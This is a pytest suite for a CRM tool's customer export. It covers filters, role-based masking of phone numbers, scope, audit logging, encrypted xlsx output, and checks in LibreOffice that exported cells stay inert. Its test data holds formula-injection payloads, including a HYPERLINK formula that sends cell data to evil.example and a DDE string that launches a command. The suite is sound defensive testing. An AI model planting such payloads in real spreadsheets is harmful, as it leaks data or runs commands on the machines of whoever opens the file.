"""Exports on a real store: fields, filters, masking, leading zeros, formula injection (checked by
opening the files in LibreOffice), passwords, scope and the audit log."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from crmsync import access, clock
from crmsync.cli import app
from crmsync.errors import InvalidInput
from crmsync.export import export_customers, neutralise, parse_where
from crmsync.followups import add_followup
from records import customer
from workbook_fixtures import soffice_or_skip

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4",
           "\t=1+2", "\r=1+2"]


@pytest.fixture
def people(team_store):
    s = team_store
    ids = {}
    ids["mfg"] = s.create("customer", customer(customer_name="杭州智造有限公司", owner="zhang", industry="智能制造",
                                                tags="高预算,年度采购", province="浙江省", city="杭州市",
                                                phone="0571-88886666", remark="007"), user="admin")["customer_id"]
    ids["soft"] = s.create("customer", customer(customer_name="上海软件有限公司", owner="zhang", industry="软件开发",
                                                 tags="高预算", province="上海市", city="上海市"), user="admin")["customer_id"]
    ids["old"] = s.create("customer", customer(customer_name="宁波老客户有限公司", owner="li", industry="智能制造",
                                                tags="高预算预备", province="浙江省", city="宁波市",
                                                total_amount=-120.5), user="admin")["customer_id"]
    for i, name in enumerate(HOSTILE):
        ids[f"h{i}"] = s.create("customer", customer(customer_name=name, owner="li", mobile=f"1391234567{i}"),
                                user="admin")["customer_id"]
    clock.set_now("2024-01-10 10:00:00")
    add_followup(s, "li", ids["old"], {"method": "电话", "content": "很久以前"})
    clock.set_now("2024-05-01 10:00:00")
    add_followup(s, "zhang", ids["mfg"], {"method": "电话", "content": "上个月"})
    clock.set_now("2024-05-21 10:00:00")
    return s, ids


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel opens Chinese correctly
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_fields_labels_leading_zeros_and_neutralised_formulas(people, tmp_path):
    store, ids = people
    out = tmp_path / "list.csv"
    r = export_customers(store, "admin", out, fields="customer_id,客户名称,座机,备注,累计交易金额")
    rows = _csv_rows(out)
    assert rows[0] == ["客户编号", "客户名称", "座机", "备注", "累计交易金额"]
    assert r.rows == len(rows) - 1 == 3 + len(HOSTILE)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[ids["mfg"]][2:4] == ["0571-88886666", "007"]  # leading zeros kept
    assert by_id[ids["old"]][4] == "-120.5"  # a number stays a number, even a negative one
    for i in range(len(HOSTILE)):
        stored = store.get("customer", ids[f"h{i}"])["customer_name"]  # a leading tab/CR is trimmed on entry
        assert stored[0] in "=+-@" and by_id[ids[f"h{i}"]][1] == "'" + stored  # inert: text, never run
    assert neutralise("正常名称") == "正常名称"


def test_where_grammar(people, tmp_path):
    store, ids = people

    def ids_for(where: str) -> set[str]:
        out = tmp_path / "w.csv"
        export_customers(store, "admin", out, fields="customer_id", where=where)
        return {row[0] for row in _csv_rows(out)[1:]}

    assert ids_for("行业=智能制造 and 标签=高预算 and contacted in the last 3 months") == {ids["mfg"]}
    assert ids_for("所属行业=智能制造 且 标签=高预算") == {ids["mfg"]}  # 高预算预备 is another tag
    assert ids_for("industry = manufacturing|software and 最近3个月联系过") == {ids["mfg"]}
    assert ids_for("地区=浙江省") == {ids["mfg"], ids["old"]}
    assert ids_for("城市=宁波市 and not contacted in the last 30 days") == {ids["old"]}
    assert ids_for("负责人=zhang and 客户状态!=流失") == {ids["mfg"], ids["soft"]}
    assert ids_for("标签!=高预算 and 行业=智能制造") == {ids["old"]}
    for bad, message in (("颜色=红", "不是客户字段"), ("行业=火箭", "不在列表中"), ("行业", "无法理解"),
                         ("行业=", "缺少值")):
        with pytest.raises(InvalidInput, match=message):
            parse_where(store, bad)


def test_masking_by_role_and_on_request(people, tmp_path, monkeypatch):
    store, ids = people
    out = tmp_path / "m.csv"
    export_customers(store, "wang", out, fields="customer_id,手机号,座机")
    assert _csv_rows(out)[1][1] == "13812345678"  # a manager may see the team's numbers
    r = export_customers(store, "wang", out, fields="customer_id,手机号,座机", mask=True)
    rows = _csv_rows(out)
    assert r.masked == ["座机", "手机号"]
    assert {row[1] for row in rows[1:3]} == {"138****5678"}
    assert "057******6666" in {row[2] for row in rows[1:]}  # as the worksheet functions mask it
    # a role without the see_sensitive grant gets masked values whatever it asks
    monkeypatch.setitem(access.GRANTS, "see_sensitive", {"admin": access.ALL})
    export_customers(store, "wang", out, fields="customer_id,手机号")
    assert {row[1] for row in _csv_rows(out)[1:]} <= {"138****5678"} | {f"139****567{i}" for i in range(9)}
    export_customers(store, "admin", out, fields="customer_id,手机号")
    assert "13812345678" in {row[1] for row in _csv_rows(out)[1:]}


def test_scope_and_audit(people, tmp_path):
    store, ids = people
    out = tmp_path / "zhang.csv"
    r = export_customers(store, "zhang", out, fields="customer_id", where="行业=智能制造")
    assert [row[0] for row in _csv_rows(out)[1:]] == [ids["mfg"]]  # a rep exports own customers only
    from sqlalchemy import text

    with store.engine.connect() as conn:
        rows = conn.execute(text("SELECT user, source, new_value FROM audit_log WHERE action = 'export'")).all()
    assert len(rows) == 1 and rows[0][0] == "zhang" and rows[0][1] == "export"
    assert '"where":"行业=智能制造"' in rows[0][2] and '"rows":1' in rows[0][2] and "zhang.csv" in rows[0][2]
    assert store.verify_audit().ok
    assert r.rows == 1


def test_bad_requests_write_nothing(people, tmp_path):
    store, _ = people
    for kwargs, message in ((dict(fields="客户名称,颜色"), "不是客户字段"), (dict(fmt="pdf"), "不支持的导出格式"),
                            (dict(fmt="csv", password="x"), "只有 xlsx")):
        with pytest.raises(InvalidInput, match=message):
            export_customers(store, "admin", tmp_path / "out" / "bad.csv", **kwargs)
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []
    with store.engine.connect() as conn:
        from sqlalchemy import text

        assert conn.execute(text("SELECT COUNT(*) FROM audit_log WHERE action = 'export'")).scalar() == 0


def test_xlsx_text_cells_quote_prefix_and_password(people, tmp_path):
    import msoffcrypto

    store, ids = people
    out = tmp_path / "list.xlsx"
    export_customers(store, "admin", out, fields="customer_id,客户名称,座机,备注,累计交易金额")
    ws = openpyxl.load_workbook(out).active
    cells = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    mfg = cells[ids["mfg"]]
    assert (mfg[2].value, mfg[3].value, mfg[2].data_type) == ("0571-88886666", "007", "s")
    assert cells[ids["old"]][4].value == -120.5
    hostile = cells[ids["h0"]][1]
    assert hostile.value == HOSTILE[0] and hostile.data_type == "s" and hostile.quotePrefix

    locked = tmp_path / "locked.xlsx"
    r = export_customers(store, "admin", locked, fields="customer_id,客户名称", password="s3cret")
    assert r.encrypted and locked.read_bytes()[:4] == b"\xd0\xcf\x11\xe0"  # an encrypted Office file
    plain = io.BytesIO()
    office = msoffcrypto.OfficeFile(locked.open("rb"))
    office.load_key(password="s3cret")
    office.decrypt(plain)
    assert openpyxl.load_workbook(plain).active.max_row == 1 + 3 + len(HOSTILE)


def _soffice(soffice: str, args: list[str], cwd: Path) -> None:
    profile = cwd / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", *args],
                   cwd=cwd, check=True, capture_output=True, timeout=120)


@pytest.mark.slow
def test_libreoffice_opens_hostile_names_as_text(people, tmp_path):
    soffice = soffice_or_skip()
    store, ids = people
    export_customers(store, "admin", tmp_path / "list.csv", fields="customer_id,客户名称",
                     where="负责人=li")
    export_customers(store, "admin", tmp_path / "list.xlsx", fields="customer_id,客户名称", where="负责人=li")
    conv = tmp_path / "conv"
    conv.mkdir()
    # the CSV as a person opens it (comma, quote, UTF-8), saved by LibreOffice as a workbook
    _soffice(soffice, ["--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(conv),
                       str(tmp_path / "list.csv")], tmp_path)
    # the xlsx, saved back by LibreOffice as CSV text (a formula would show its result)
    _soffice(soffice, ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(conv),
                       str(tmp_path / "list.xlsx")], tmp_path)
    ws = openpyxl.load_workbook(conv / "list.xlsx").active
    names = {r[0].value: r[1] for r in ws.iter_rows(min_row=2)}
    stored = {i: store.get("customer", ids[f"h{i}"])["customer_name"] for i in range(len(HOSTILE))}
    for i, name in stored.items():
        cell = names[ids[f"h{i}"]]
        assert cell.data_type == "s", (name, cell.value)  # text, not a formula
        assert cell.value == "'" + name  # the CSV's apostrophe kept as text
    back = list(csv.reader(io.StringIO((conv / "list.csv").read_text("utf-8"), newline="")))
    shown = {row[0]: row[1] for row in back[1:]}
    for i, name in stored.items():
        assert shown[ids[f"h{i}"]] == name  # the text itself, not 点我 or 2 or 3


def test_cli_export(people, store_path, tmp_path):
    store, ids = people
    out = tmp_path / "cli.xlsx"
    result = CliRunner().invoke(app, ["export", "--fields", "customer_id,客户名称,手机号", "--where", "行业=智能制造",
                                      "--out", str(out), "--mask", "--store", str(store_path), "--user", "wang"])
    assert result.exit_code == 0, result.output
    assert "已导出 2 个客户" in result.output and "已打码：手机号" in result.output
    bad = CliRunner().invoke(app, ["export", "--where", "行业=火箭", "--out", str(tmp_path / "x.csv"),
                                   "--store", str(store_path)])
    assert bad.exit_code == 1 and "火箭" in bad.output and "Traceback" not in bad.output
